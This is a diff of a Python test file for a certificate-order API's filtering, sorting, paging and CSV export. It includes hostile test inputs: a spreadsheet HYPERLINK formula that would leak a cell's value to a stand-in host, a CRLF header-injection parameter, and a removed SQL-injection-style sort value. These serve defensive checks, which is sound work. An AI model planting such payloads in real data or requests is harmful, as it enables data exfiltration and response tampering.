@@ -72,7 +72,9 @@ def filters(stack):
     other = Account(stack)
     other.place("pending.example.net", alternative_order_id="po-1")
     certificate = shop.certificate
-    stack.db.run(f"INSERT INTO order_renewal (account_id, renewed_order_id, created_at) VALUES ({shop.account.id}, {shop.all[3]}, now())")
+    stack.db.run(f"INSERT INTO order_renewal (account_id, renewed_order_id, created_at) VALUES ({shop.account.id}, {shop.all[3]}, :now)")
+    # The shorter order ends sooner on days when certificates may last longer than it.
+    alike = [i for i in (0, 1) if shop.account.info(shop.all[i])["certificate"]["valid_till"] == certificate["valid_till"]]
     since = [i for i, o in enumerate(shop.client.get(LIST).json["orders"]) if o["date_created"] >= certificate["date_created"]]
     for members, wanted in [
             ({}, [0, 1, 2, 3, 4]),
@@ -91,12 +93,14 @@ def filters(stack):
             ({"common_name": "example.net"}, []), ({"common_name": "%_"}, []),
             ({"domain_name": "b." + shop.name}, [1]), ({"domain_name": "%b." + shop.name}, [1]),
             ({"domain_name": "%" + shop.name}, [1]), ({"domain_name": ["b." + shop.name, "pending.example.net"]}, [1, 2]),
-            ({"valid_till": certificate["valid_till"]}, [0, 1]), ({"valid_till": ">2020-01-01"}, [0, 1]),
+            ({"valid_till": certificate["valid_till"]}, alike), ({"valid_till": ">2020-01-01"}, [0, 1]),
             ({"valid_till": "<2020-01-01"}, []), ({"valid_till": f"2020-01-01...{certificate['valid_till']}"}, [0, 1]),
             ({"date_created": ">2020-01-01"}, [0, 1, 2, 3, 4]), ({"date_created": "<2020-01-01"}, []),
             ({"date_created": [">2020-01-01", "<2020-02-01"]}, []),
             ({"date_created": certificate["date_created"][:10]}, [0, 1, 2, 3, 4]),
-            ({"date_created": certificate["date_created"][:19].replace("T", "+") + "...2090-01-01"}, since),
+            ({"date_created": certificate["date_created"][:19].replace("T", "+") + "...9999-12-31"}, since),
+            ({"date_created": ">2020-1-1"}, [0, 1, 2, 3, 4]), ({"date_created": "2020-1-1+2:0:41...2020-2-1+3:0:41"}, []),
+            ({"date_created": "2020-1-1+2:0:41...9999-12-1"}, [0, 1, 2, 3, 4]), ({"valid_till": "<2020-1-1"}, []),
             ({"disable_renewal_notifications": "1"}, [2]), ({"disable_renewal_notifications": "0"}, [0, 1, 3, 4]),
             ({"email": "extra@example.org"}, [2]), ({"email": "%@example.ORG"}, [2]), ({"email": "%shop"}, [0, 1, 2, 3]),
             ({"certificate_id": certificate["id"]}, [1]), ({"certificate_id": "5"}, []),
@@ -131,6 +135,10 @@ def sorting_and_slash(stack):
     case.equal("common name", shop.ids(sort="-common_name"), [4, 2, 0, 3, 1])
     case.equal("no end comes last", shop.ids(sort="-valid_till,id")[2:], rest)
     case.equal("nor first", sorted(shop.ids(sort="valid_till")[:2]), issued)
+    for sort, wanted in (("order_id", [0, 1, 2, 3, 4]), ("-order_id", [4, 3, 2, 1, 0]), ("+id", [0, 1, 2, 3, 4]),
+                         ("+status,-id", [3, 1, 0, 4, 2]), ("-status,+date_created", [2, 4, 0, 1, 3])):
+        case.equal(f"by {sort}", shop.ids(sort=sort), wanted)  # "%2B"
+        case.equal(f"by {sort}, as it is", [shop.all.index(o["id"]) for o in shop.client.get(f"{LIST}?sort={sort}").json["orders"]], wanted)
     case.equal("filter and sort of one name", shop.ids(sort="-status", status="issued"), [0, 1])
     for sort, limit in (("product_name_id", 2), ("-user_id", 1), ("container_id", 3), ("order_valid_till", 2)):
         rows = []
@@ -159,7 +167,7 @@ def bad_questions(stack):
             ({"is_renewed": "maybe"}, "filters.is_renewed"), ({"disable_renewal_notifications": "2"}, "filters.disable_renewal_notifications"),
             ({"origin": "elsewhere"}, "filters.origin"), ({"serial_number": "xyz"}, "filters.serial_number"),
             ({"product_name_id": "%ssl"}, "filters.product_name_id"), ({"organization_id": "acme"}, "filters.organization_id"),
-            ({"sort": "id,id"}, "sort"), ({"sort": "password"}, "sort"), ({"sort": "id;DROP"}, "sort"), ({"sort": "--id"}, "sort"),
+            ({"sort": "id,id"}, "sort"), ({"sort": "id,-id"}, "sort"),
             ({"offset": "-1"}, "offset"), ({"limit": "-1"}, "limit"), ({"limit": "many"}, "limit")]:
         refused(client, query(**members), field)
     case.equal("at most a thousand", client.get(query(limit="5000")).json["page"]["limit"], 1000)
@@ -175,6 +183,89 @@ def bad_questions(stack):
     refused(client, query(changes, status_last_updated=">2024-01-01"), "filters.status_last_updated")
 
 
+IGNORED = "ignored-parameters"
+STRICT = {"Prefer": "handling=strict"}
+
+
+@tests
+def unknown_words_are_named(stack):
+    shop = Shop(stack)
+    client = shop.client
+    for path, named in [
+            ("?limit=2&sort=-id&filters[status]=issued", None), ("?filters[status]=", None),
+            ("?filters[statuss]=issued", "filters[statuss] (status?)"),
+            ("?filters%5Bstatuss%5D%5B0%5D=issued", "filters[statuss][0] (status?)"),
+            ("?filter[status]=issued", "filter[status] (filters[status]?)"), ("?status=issued", "status (filters[status]?)"),
+            ("?limt=1&sort=statuss,-colour", "limt (limit?), sort=statuss (status?), sort=colour"),
+            ("?account_id=1", "account_id"), ("?a%0d%0aX-Evil:%201=1", "a%0D%0AX-Evil:%201")]:
+        answer = client.get(LIST + path)
+        case.equal(f"{path}: {answer}", (answer.status, answer.headers.get(IGNORED)), (200, named))
+        case.equal(f"all of {path}", len(answer.json["orders"]), 5 if named else answer.json["page"]["total"])
+        answer = client.call("GET", LIST + path, headers=STRICT)
+        case.equal(f"strict {path}: {answer}", (answer.status, answer.headers.get(IGNORED), answer.headers.get("preference-applied")),
+                   (400 if named else 200, None, "handling=strict"))
+    for path, field, message in [
+            ("?filters[statuss]=issued", "filters.statuss", "filters.statuss is not known here, which takes id, status, organization_id, "),
+            ("?limt=1", "limt", "limt is not known here, which takes filters[...], sort, offset, limit"),
+            ("?sort=statuss", "sort", "sort is not known here, which takes id, order_id, status, common_name, ")]:
+        answer = client.call("GET", LIST + path, headers=STRICT)
+        case.equal(f"{path}: {answer}", (answer.error["code"], answer.error["field"]), ("invalid_field", field))
+        case.inside(f"what {path} takes", message, answer.error["message"])
+    info = f"{LIST}/{shop.first}?include_price=true"
+    case.equal("of one order", client.get(info).headers.get(IGNORED), "include_price")
+
+
+def identity(row):
+    return next(row[name] for name in ("id", "order_id", "name_id", "pem") if name in row)
+
+
+def lists_of(shop):
+    """Every address that takes a key to sort by, and the name of its items."""
+    account = shop.client.get("/account").json
+    ids = {"container_id": account["root_container_id"], "webhook_id": shop.account.webhook("/lists"), "alternative_order_id": "po-1"}
+    shop.client.post(f"/container/{account['root_container_id']}/children", {"name": "Zoo"})
+    shop.client.post(f"/container/{account['root_container_id']}/children", {"name": "Attic"})
+    shop.client.post("/user", {"username": f"zz{shop.account.number}@example.com", "first_name": "Ada", "last_name": "Love",
+                                "email": "a@example.com", "access_roles": [{"id": 5}]})
+    document = shop.client.get("/openapi.json").json
+    for path, item in document["paths"].items():
+        operation = item.get("get", {})
+        answer = operation.get("responses", {}).get("200", {}).get("content", {}).get("application/json", {}).get("schema", {})
+        members = document["components"]["schemas"].get(answer.get("$ref", "").rpartition("/")[2], {}).get("properties", {})
+        names = [p["name"] for p in operation.get("parameters", []) if "name" in p]
+        case.true(f"{path} has pages and sorts", "page" not in members or "sort" in names)
+        if "sort" in names:
+            window = "?minutes=60&" if path.endswith("status-changes") else "?"
+            yield path.removeprefix("/services/v2").format(**ids) + window, next((m for m in members if m != "page"), None)
+
+
+@tests
+def every_list_sorts(stack):
+    """By every key that it says it has, up and down; what an item shows by that name is in order."""
+    shop = Shop(stack)
+    lists = list(lists_of(shop))
+    case.true(f"lists: {lists}", len(lists) >= 13)
+    for path, key in lists:
+        answer = shop.client.get(path + "sort=colour")
+        case.equal(f"{path}: {answer}", (answer.status, answer.headers.get(IGNORED)), (200, "sort=colour"))
+        key = key or next(k for k in answer.json if k != "page")
+        everything = answer.json[key]
+        answer = shop.client.call("GET", path + "sort=colour", headers=STRICT)
+        case.equal(f"strict {path}: {answer}", (answer.status, answer.error["field"]), (400, "sort"))
+        for name in answer.error["message"].rpartition(" takes ")[2].split(", "):
+            for sign in ("", "-", "+", "%2B"):
+                answer = shop.client.get(f"{path}sort={sign}{name}")
+                case.equal(f"{path} by {sign}{name}: {answer}", (answer.status, answer.headers.get(IGNORED)), (200, None))
+                rows = answer.json[key]
+                case.equal(f"the same items by {name}", sorted(map(identity, rows)), sorted(map(identity, everything)))
+                values = [row[name] for row in rows if isinstance(row.get(name), (int, str))]
+                case.equal(f"absent is last by {sign}{name}", [row[name] for row in rows[:len(values)]] if values else [], values)
+                if values and not isinstance(values[0], str):
+                    case.equal(f"{path} by {sign}{name}", values, sorted(values, reverse=sign == "-"))
+                elif name in ("id", "date", "date_created", "create_date", "username", "status"):
+                    case.equal(f"{path} by {sign}{name}", values, sorted(values, reverse=sign == "-"))
+
+
 # ---- pages
 
 def place_by_sql(stack, account, count, status="pending", age="0 s", first=None):
@@ -183,15 +274,16 @@ def place_by_sql(stack, account, count, status="pending", age="0 s", first=None)
     start = first or stack.db.number("SELECT nextval('order_block')") * 100000
     stack.db.run(f"""
         INSERT INTO orders SELECT (jsonb_populate_record(o, jsonb_build_object('id', {start} + n, 'status', '{status}',
+                                   'request_id', {start} + n, 'certificate_id', coalesce(o.certificate_id, 0),
                                    'created_at', o.created_at - interval '{age}' + n * interval '1 ms',
-                                   'status_at', o.created_at - interval '{age}' + n * interval '1 ms', 'xid', NULL))).*
+                                   'status_at', o.created_at - interval '{age}' + n * interval '1 ms',
+                                   'xid', pg_current_xact_id()))).*
           FROM orders o, generate_series(1, {count}) n WHERE o.id = {model};
-        UPDATE orders SET xid = pg_current_xact_id() WHERE id > {start} AND id <= {start + count};
-        INSERT INTO order_name SELECT {start} + n, 0, account_id, fqdn, domain
-          FROM order_name m, generate_series(1, {count}) n WHERE m.order_id = {model} AND m.position = 0;
-        INSERT INTO request (order_id, account_id, type, status, requester_id, created_at)
-        SELECT {start} + n, {account.id}, 'new_request', 'approved', {account.user_id}, o.created_at
-          FROM orders o, generate_series(1, {count}) n WHERE o.id = {model}""")
+        INSERT INTO request_name SELECT {start} + n, 0, m.account_id, m.kind, m.name, m.name
+          FROM request_name m JOIN orders o ON o.request_id = m.request_id, generate_series(1, {count}) n
+         WHERE o.id = {model} AND m.position = 0;
+        INSERT INTO request SELECT (jsonb_populate_record(r, jsonb_build_object('id', {start} + n, 'order_id', {start} + n))).*
+          FROM request r JOIN orders o ON o.request_id = r.id, generate_series(1, {count}) n WHERE o.id = {model}""")
     return [start + n for n in range(1, count + 1)]
 
 
@@ -296,23 +388,25 @@ def counted_by_the_scheduler(stack):
     issued = [r["id"] for r in old if r["status"] == "issued"]
     pending = [r["id"] for r in old if r["status"] == "pending"]
     stack.db.run(f"UPDATE orders SET status = 'canceled', status_at = '{stack_now(stack)}' WHERE id = {issued[0]};"
-                 f"UPDATE orders SET status = 'pending', status_at = '{stack_now(stack)}' WHERE id = {issued[1]};"
-                 f"UPDATE orders SET status = 'issued', status_at = '{stack_now(stack)}' WHERE id = {pending[0]}")
-    case.equal("totals", [listed(account.client, **m)[1] for m in asked], [45, 35, 6, 4, 3, 0, 39])
+                 f"UPDATE orders SET status = 'issued', certificate_id = 0, status_at = '{stack_now(stack)}' WHERE id = {pending[0]}")
+    case.equal("totals", [listed(account.client, **m)[1] for m in asked], [45, 36, 6, 3, 3, 0, 39])
     case.inside("canceled", issued[0], listed(account.client, status="canceled")[0])
-    case.equal("pending", listed(account.client, status="pending")[0], sorted_by_date(stack, pending[1:] + [issued[1]]))
+    case.equal("pending", listed(account.client, status="pending")[0], sorted_by_date(stack, pending[1:]))
     changed = {o["order_id"]: o["status"] for o in account.client.get("/order/certificate/status-changes?minutes=30").json["orders"]}
-    for order, status in ((issued[0], "canceled"), (issued[1], "pending"), (pending[0], "issued")):
+    for order, status in ((issued[0], "canceled"), (pending[0], "issued")):
         case.equal(f"change of {order}", changed.get(order), status)
     case.true("not those of hours ago", issued[2] not in changed)
     stack.db.run("UPDATE job SET run_at = run_at - interval '1 hour' WHERE lane = 'tally'")
     case.until("it is looked at again", lambda: stack.db.value(
         f"SELECT state FROM order_apart WHERE order_id = {pending[0]}") == "issued")
-    case.equal("totals", [listed(account.client, **m)[1] for m in asked], [45, 35, 6, 4, 3, 0, 39])
+    case.equal("totals", [listed(account.client, **m)[1] for m in asked], [45, 36, 6, 3, 3, 0, 39])
+    # Nobody would ever look at these, which have come in no program's way.
+    stack.db.run(f"UPDATE orders SET status = 'canceled', status_at = '{stack_now(stack)}' "
+                 f"WHERE account_id = {account.id} AND status = 'pending'")
 
 
 def stack_now(stack):
-    return stack.db.value(f"SELECT to_timestamp({stack.now()})")
+    return stack.db.value("SELECT :now")
 
 
 def sorted_by_date(stack, ids):
@@ -341,9 +435,12 @@ def status_changes(stack):
     stranger = Account(stack).client.get(path + "?minutes=10080")
     case.equal(f"a stranger: {stranger}", (stranger.status, stranger.json), (200, {}))
     # Mountain Daylight Time, six hours behind.
-    day = stack.db.value(f"SELECT to_char(to_timestamp({stack.now()}) AT TIME ZONE 'UTC' - interval '6 h', 'YYYY-MM-DD')")
+    day = stack.db.value("SELECT to_char(:now AT TIME ZONE 'UTC' - interval '6 h', 'YYYY-MM-DD')")
     named = shop.client.get(query(path, status_last_updated=f"{day}...{day}+23:59:59")).json
     case.equal("named window", len(named["orders"]), 5)
+    bare = "-".join(str(int(place)) for place in day.split("-"))
+    named = shop.client.get(f"{path}?filters[status_last_updated]={bare}+0:0:0...{bare}+23:59:59").json
+    case.equal("without leading zeros", len(named["orders"]), 5)
 
 
 @tests
@@ -429,6 +526,13 @@ def as_csv(stack):
     case.inside("quotes are doubled", '"Ann ""the key"", Lee"', first)
     rows = list(csv.DictReader(io.StringIO(first, newline=""), strict=True))
     case.equal("and read back", (rows[0]["requester.last_name"], rows[0]["requester.first_name"]), (quoted, "two\nlines"))
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    stack.db.run(f"UPDATE user_account SET last_name = '{formula}', first_name = '+1' WHERE account_id = {shop.account.id}")
+    rows = table_of(ask("/request", "text/csv"))
+    case.equal("no formula", (rows[0]["requester.last_name"], rows[0]["requester.first_name"]), ("'" + formula, "'+1"))
+    case.equal("as JSON", shop.client.get("/request").json["requests"][0]["requester"]["last_name"], formula)
+    for answer in (ask("/request", "text/csv"), ask(LIST, "*/*"), shop.client.get("/nowhere"), stack.client("x").get(LIST)):
+        case.equal(f"of one type: {answer}", answer.headers.get("x-content-type-options"), "nosniff")
     case.equal("filters count", [r["id"] for r in table_of(ask(query(status="pending"), "text/csv"))], [str(shop.pending["id"])])
     case.equal("nothing but names", table_of(ask(query(status="revoked"), "text/csv")), [])
     for accept, kind in (("*/*", "json"), ("application/json", "json"), ("text/csv;q=0", "json"), ("text/csv;q=0.1, application/json", "json"),
